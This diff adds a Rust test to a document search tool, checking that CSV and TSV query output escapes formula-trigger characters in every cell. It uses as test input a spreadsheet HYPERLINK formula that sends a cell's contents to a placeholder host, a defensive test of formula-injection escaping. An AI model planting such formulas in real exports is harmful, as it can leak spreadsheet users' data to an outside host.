@@ -226,6 +226,49 @@ fn every_format_gives_every_hit_in_the_same_order() {
     }
 }
 
+#[test]
+fn no_cell_of_a_table_is_a_formula() {
+    let formula = "=HYPERLINK(\"http://x/?\"&A1)";
+    let sandbox = Sandbox::new();
+    let article = json!({"title": formula, "source": "@Echo", "author": "+Jane Doe", "section": "-A", "text": "=strike", "language": "en"});
+    sandbox.write("corpus/=a.json", article.to_string());
+    sandbox.index();
+    for flag in ["--csv", "--tsv"] {
+        let output = sandbox.run(["query", "strike", flag]);
+        let mut rows = csv::ReaderBuilder::new();
+        rows.delimiter(if flag == "--csv" { b',' } else { b'\t' })
+            .quoting(flag == "--csv");
+        let mut rows = rows.from_reader(output.stdout.as_bytes());
+        let head = rows.headers().unwrap().clone();
+        let row = rows.records().next().unwrap().unwrap();
+        for (name, cell) in head.iter().zip(&row) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "{flag} {name} {cell}"
+            );
+        }
+        let cell = |name| {
+            row.get(head.iter().position(|head| head == name).unwrap())
+                .unwrap()
+        };
+        assert_eq!(cell("title"), format!("'{formula}"), "{flag}");
+        assert_eq!(
+            (cell("file"), cell("source"), cell("rank")),
+            ("'=a.json", "'@Echo", "1")
+        );
+        let facets = sandbox.run(["query", "strike", flag, "--facet", "source,section"]);
+        assert!(
+            facets.stdout.contains("'@Echo") && facets.stdout.contains("'-A"),
+            "{facets}"
+        );
+    }
+    let output = sandbox.run(["query", "strike", "--fields", "title,file"]);
+    assert_eq!(output.stdout, format!("{formula}\t=a.json\n"));
+    assert_eq!(sandbox.hits(["strike"])[0]["title"], formula);
+    let help = sandbox.run(["query", "--help"]).stdout;
+    assert!(help.contains("apostrophe"), "{help}");
+}
+
 #[cfg(unix)]
 #[test]
 fn paths_that_are_not_text_break_no_format() {
